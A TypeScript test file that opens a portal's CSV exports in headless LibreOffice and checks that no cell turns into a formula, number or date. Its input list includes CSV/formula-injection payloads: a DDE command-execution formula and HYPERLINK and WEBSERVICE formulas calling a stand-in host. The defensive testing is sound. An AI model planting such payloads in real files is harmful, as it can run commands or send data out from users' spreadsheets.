import { execFile } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { historyFile } from '@/components/audit/history-file'
import { csvHeader, csvLine } from '@/lib/audit/export/csv'
import type { OwnEntry } from '@/lib/audit/reading/own-history'
import { messagesOf } from '@/lib/i18n/catalogue'
import { translator } from '@/lib/i18n/translator'
import { readCsv } from '../builders/csv'

const run = promisify(execFile)

/** A cell as the spreadsheet took it. */
interface Cell {
  text: string
  type: string
  formula: string | null
}

/** What a person or an app can bring into a file. None of it may run, and none may become something else. */
const TEXTS = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '＝1+1', ' =1+1', "'=1+1", 'x;=1+1', 'x\n=1+1'],
  ...[
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example")',
    '=WEBSERVICE("http://evil.example")',
  ],
  ...[
    'Zoë Ünlü',
    'Łukasz Żółć',
    '渡辺 さくら',
    'مريم',
    '🔑 “keys”',
    'a,b',
    'a;b',
    'a\tb',
    'say ""x"" "y"',
  ],
  ...[
    '00123456',
    '123456789012345678901',
    '12E5',
    '4B5F0C12',
    'two\r\nlines',
    '',
    '1,5',
    '17.4',
    '3/4',
    '31.12.2026',
  ],
  '2026-01-01T23:30:00.000Z',
]

let folder = ''
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'portal-spreadsheet-'))
})
afterAll(() => rmSync(folder, { recursive: true, force: true }))

/** Languages by the numbers that the spreadsheet has for them: they write numbers and dates each in their own way. */
const LANGUAGES = { English: 1033, German: 1031 } as const

/** Comma, quote, UTF-8, from line 1, each column as it looks, the language, and numbers and dates found wherever they are. */
const asTheDialogChooses = (language: number) => `CSV:44,34,76,1,,${language},false,true`

/** Opens a file with what the dialog chooses for a file with a byte order mark; gives its cells row by row. */
async function opened(name: string, csv: string, language: number): Promise<Cell[][]> {
  const file = join(folder, `${name}.csv`)
  writeFileSync(file, csv)
  const how = ['--headless', '--norestore', `--infilter=${asTheDialogChooses(language)}`]
  const profile = `-env:UserInstallation=file://${join(folder, 'profile')}`
  await run('soffice', [profile, ...how, '--convert-to', 'fods', '--outdir', folder, file], {
    env: { ...process.env, HOME: folder },
    timeout: 120_000,
  }).catch((error: unknown) => {
    throw new Error('LibreOffice is missing or failed: apt-get install libreoffice-calc-nogui', {
      cause: error,
    })
  })
  return cellsIn(readFileSync(join(folder, `${name}.fods`), 'utf8'))
}

const unescaped = (xml: string) =>
  xml
    .replaceAll(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count?: string) =>
      ' '.repeat(Number(count ?? 1)),
    )
    .replaceAll('<text:tab/>', '\t')
    .replaceAll(/<[^>]+>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&apos;', "'")
    .replaceAll('&amp;', '&')

/** The cells of a flat document: the repeated empty ones that fill a sheet are left out. */
function cellsIn(xml: string): Cell[][] {
  const rows = [...xml.matchAll(/<table:table-row\b[^>]*>(.*?)<\/table:table-row>/gs)]
  return rows
    .map(([, row = '']) => {
      const cells = row.matchAll(/<table:table-cell\b([^>]*?)(?:\/>|>(.*?)<\/table:table-cell>)/gs)
      return [...cells].flatMap(([, attributes = '', content = '']) => {
        const repeated = Number(/columns-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1)
        const paragraphs = [...content.matchAll(/<text:p[^>]*?(?:\/>|>(.*?)<\/text:p>)/gs)]
        const cell = {
          text: paragraphs.map(([, text = '']) => unescaped(text)).join('\n'),
          type: /office:value-type="(\w+)"/.exec(attributes)?.[1] ?? 'empty',
          formula: /table:formula="([^"]*)"/.exec(attributes)?.[1] ?? null,
        }
        return repeated > 100 ? [] : Array.from({ length: repeated }, () => cell)
      })
    })
    .filter((row) => row.some(({ text }) => text !== ''))
}

const lines = (text: string) => text.replaceAll('\r\n', '\n')

for (const [name, language] of Object.entries(LANGUAGES))
  describe(name, () => {
    test('nothing that stands in an export runs, is lost or becomes a number or a date @D10', async () => {
      const columns = ['before', 'value', 'after'] as const
      const csv =
        csvHeader(columns) +
        TEXTS.map((value) => csvLine(columns, { before: 'b', value, after: 'a' })).join('')
      const [head, ...rows] = await opened(`texts-${name}`, csv, language)
      expect(head?.map(({ text }) => text)).toEqual([...columns])
      expect(rows).toHaveLength(TEXTS.length)
      const written = readCsv(csv).slice(1)
      for (const [index, row] of rows.entries()) {
        const cells = written[index]?.map(lines)
        expect(
          row.map(({ text }) => text),
          TEXTS[index],
        ).toEqual(cells)
        for (const { formula } of row) expect(formula, TEXTS[index]).toBeNull()
        expect(row[1]?.type, TEXTS[index]).toMatch(/^(string|empty)$/)
      }
    })

    test('a person’s history opens in columns, with its times as they are', async () => {
      const entry: OwnEntry = {
        ...{
          id: 1,
          type: 'signed-in',
          outcome: 'done',
          by: 'self',
          at: '2026-01-01T23:30:00.000Z',
        },
        event: { type: 'signed-in', version: 1, detail: {} },
        ...{ fingerprint: '2345-6789', reason: 'lost', receipt: 'ABCD-EFGH-JKLM' },
        device: {
          ...{ fingerprint: '2345-6789', kind: 'backup', kindSource: 'stated', osVersion: null },
          addedAt: '2025-03-03T23:00:00.000Z',
        },
      }
      const words = {
        ...{ t: translator('en', messagesOf('en')), formats: 'en-GB', timeZone: 'Asia/Tokyo' },
      }
      async function* pages() {
        yield await Promise.resolve([entry, entry])
      }
      let csv = ''
      for await (const piece of historyFile(pages(), 'csv', words)) csv += piece
      const rows = await opened(`history-${name}`, csv, language)
      expect(rows.map((row) => row.map(({ text }) => text))).toEqual(readCsv(csv))
      expect(rows[1]?.map(({ text }) => text)).toContain('2025-03-03T23:00:00.000Z')
      expect(rows[1]?.filter(({ type }) => type !== 'string')).toEqual([])
    })
  })
